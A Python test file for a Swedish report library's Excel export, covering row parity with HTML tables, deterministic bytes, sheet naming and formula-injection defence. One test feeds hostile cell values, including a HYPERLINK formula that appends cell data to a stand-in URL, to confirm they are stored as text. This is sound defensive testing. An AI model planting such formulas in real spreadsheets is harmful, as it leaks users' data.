"""Excel export of the follow-up tables: same rows as the HTML tables, deterministic bytes."""
from __future__ import annotations

import datetime as dt
import zipfile
from html.parser import HTMLParser
from pathlib import Path

from openpyxl import load_workbook

from vbe_lib.analys import aktiviteter as analys
from vbe_lib.rapporter import uppfoljning
from vbe_lib.render.xlsx import bladnamn, las_blad
from vbe_lib.parametrar.konfiguration import Konfiguration

ROT = Path(__file__).resolve().parents[1]


class _Rader(HTMLParser):
    """Rows of every <tbody> (cells from <td>/<th>), per table."""

    def __init__(self):
        super().__init__()
        self.tabeller, self._i_body, self._cell, self._lasartext = [], False, None, 0

    def handle_starttag(self, tag, attrs):
        if self._lasartext:
            self._lasartext += 1
        elif ("class", "lasartext") in attrs:
            self._lasartext = 1  # the spoken form of a table symbol: not a visible cell text
        if tag == "table":
            self.tabeller.append([])
        elif tag == "tbody":
            self._i_body = True
        elif tag == "tr" and self._i_body:
            self.tabeller[-1].append([])
        elif tag in ("td", "th") and self._i_body:
            self._cell = []
        elif tag == "br" and self._cell is not None:
            self._cell.append("\n")

    def handle_endtag(self, tag):
        if self._lasartext:
            self._lasartext -= 1
        if tag == "tbody":
            self._i_body = False
        elif tag in ("td", "th") and self._cell is not None:
            self.tabeller[-1][-1].append("".join(self._cell).strip())
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None and not self._lasartext:
            self._cell.append(data)


def _norm(v: str) -> str:
    return " ".join(v.split()) if v not in ("", "..", "\u2013") else ""


def test_excel_har_exakt_html_tabellernas_rader(tmp_path):
    konf = Konfiguration.las(ROT / "parameters")
    for slug, ar in (("sodermalm", 2021), ("arbetsmarknadsnamnden", 2023), ("hagersten_alvsjo", 2021)):
        u = uppfoljning.las_uppfoljning(ROT / "data", konf, slug, ar)
        html_delar = [d for d in uppfoljning.avsnitt_tabeller(u) if not isinstance(d, uppfoljning.Markdown)]
        tolk = _Rader()
        for d in html_delar:
            tolk.feed(d._repr_html_())
        fil = uppfoljning.skriv_excel(u, tmp_path / f"{slug}.xlsx", "2021-03-01", exempeldata=True)
        blad = las_blad(fil)
        grupper = list(analys.tabeller(u.df))
        assert list(blad)[1:] == [bladnamn(g, set()) for g in grupper] and list(blad)[0] == "Om tabellerna"
        assert len(tolk.tabeller) == len(grupper)
        for g, html_rader in zip(grupper, tolk.tabeller):
            excel = blad[bladnamn(g, set())]
            assert excel[0] == ["Aktivitet", "Ansvarig", "Tidplan", "Status", "Kommentar"]
            assert [[_norm(c) for c in r] for r in excel[1:]] == [[_norm(c) for c in r] for r in html_rader]
        assert "Fiktiva exempeldata" in " ".join(r[0] for r in blad["Om tabellerna"])


def test_excel_format_och_deterministiska_bytes(tmp_path):
    konf = Konfiguration.las(ROT / "parameters")
    u = uppfoljning.las_uppfoljning(ROT / "data", konf, "sodermalm", 2021)
    a = uppfoljning.skriv_excel(u, tmp_path / "a.xlsx", "2021-03-01")
    b = uppfoljning.skriv_excel(u, tmp_path / "b.xlsx", dt.date(2021, 3, 1))
    assert a.read_bytes() == b.read_bytes()
    with zipfile.ZipFile(a) as z:
        assert {i.date_time for i in z.infolist()} == {(2021, 3, 1, 0, 0, 0)}
        assert b"2021-03-01T00:00:00Z" in z.read("docProps/core.xml")
    wb = load_workbook(a)
    assert wb.sheetnames[0] == "Om tabellerna" and wb.active.title == "Om tabellerna"
    assert wb.properties.language == "sv-SE"
    for nr, ws in enumerate(wb.worksheets[1:], start=1):
        # every data sheet is an Excel table over exactly its cells, header row as print titles
        assert list(ws.tables) == [f"Tabell{nr}"]
        t = ws.tables[f"Tabell{nr}"]
        assert t.ref == f"A1:E{ws.max_row}" and t.headerRowCount in (None, 1)
        assert [c.value for c in ws[1]] == ["Aktivitet", "Ansvarig", "Tidplan", "Status", "Kommentar"]
        assert ws.print_title_rows.replace("$", "") == "1:1" and ws.auto_filter.ref is None
    ws = wb.worksheets[1]
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["A"].width == 60 and ws.column_dimensions["E"].width == 50
    assert ws["A1"].font.b and ws["A2"].alignment.wrap_text
    assert wb.properties.created == dt.datetime(2021, 3, 1)


def test_bladnamn():
    upptagna: set[str] = set()
    assert bladnamn("Föreningsbidrag och upplåtande av lokaler", upptagna) == "Föreningsbidrag och lokaler"
    lang = "Verksamheten för integration och arbetsmarknad"
    a, b = bladnamn(lang, upptagna), bladnamn(lang + " (extra)", upptagna)
    assert len(a) <= 31 and len(b) <= 31 and a != b
    assert bladnamn("Skola/fritid: [test]?", set()) == "Skola fritid test"


def test_formel_som_text_blir_aldrig_en_formel(tmp_path):
    """Hostile input (issue 21): an activity cell written as a formula, or starting with
    +, -, @, a tab or CR, is published as text (quote prefix), never as a formula; a
    number stays a number."""
    import re

    konf = Konfiguration.las(ROT / "parameters")
    data = tmp_path / "data"
    (data / "aktiviteter" / "2020").mkdir(parents=True)
    farliga = ['=HYPERLINK("https://exempel.invalid/?q="&A1;"Läs mer")', "+3 nya deltagare", "-1 deltagare",
               "@SUMMA(A1:A9)", "\tinledd med tabb", "#REF!"]
    rader = ["Id;Grupp;Aktivitet;Syfte/Mål;Ansvarig;Tidplan;Uppföljning;Status;Kommentar"]
    for i, text in enumerate(farliga, start=1):
        rader.append(f'SÖD-2020-{i:02d};Förebyggande;"{text.replace(chr(34), chr(34) * 2)}";Syfte;Samordnare;'
                     f'2020;Verksamhetsberättelse;Genomförd;"={i}+{i}"')
    (data / "aktiviteter" / "2020" / "sodermalm.csv").write_text("\n".join(rader) + "\n", encoding="utf-8")
    u = uppfoljning.las_uppfoljning(data, konf, "sodermalm", 2021)
    fil = uppfoljning.skriv_excel(u, tmp_path / "u.xlsx", "2021-03-01")
    with zipfile.ZipFile(fil) as z:
        blad = {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")}
        stilar = z.read("xl/styles.xml").decode("utf-8")
    assert blad and not any(re.search(r"<f[ >]", x) for x in blad.values()), "en cell skrevs som formel"
    wb = load_workbook(fil)
    ws = wb.worksheets[1]  # the explanation sheet comes first
    celler = {c.value: c for r in ws.iter_rows() for c in r if isinstance(c.value, str)}
    for text in [t for t in farliga if not t.startswith("\t")] + ["=1+1", "=6+6"]:
        c = next(c for v, c in celler.items() if v.strip() == text.strip())
        assert c.data_type == "s" and c.quotePrefix, text
    assert 'quotePrefix="1"' in stilar
    vanlig = celler["Aktivitet"]
    assert not vanlig.quotePrefix


def test_tal_forblir_tal_och_vanlig_text_far_inget_prefix(tmp_path):
    import pandas as pd

    from vbe_lib.render.xlsx import ar_formellik, skriv_uppfoljning

    df = pd.DataFrame({"Aktivitet": ["-5", "Vanlig text", "e-post: =x"], "Ursprung": [-5, 2020, 1.5]})
    fil = skriv_uppfoljning({"Förebyggande": df}, tmp_path / "t.xlsx", dt.date(2021, 3, 1), "Rubrik")
    ws = load_workbook(fil)["Förebyggande"]  # after the explanation sheet
    assert [(c.value, c.data_type, bool(c.quotePrefix)) for c in ws["B"][1:]] == [
        (-5, "n", False), (2020, "n", False), (1.5, "n", False)]
    assert [(c.value, bool(c.quotePrefix)) for c in ws["A"][1:]] == [
        ("-5", True), ("Vanlig text", False), ("e-post: =x", False)]
    assert ar_formellik("=A1") and ar_formellik("\rx") and ar_formellik("#N/A")
    assert not ar_formellik(-5) and not ar_formellik("a=b") and not ar_formellik("")
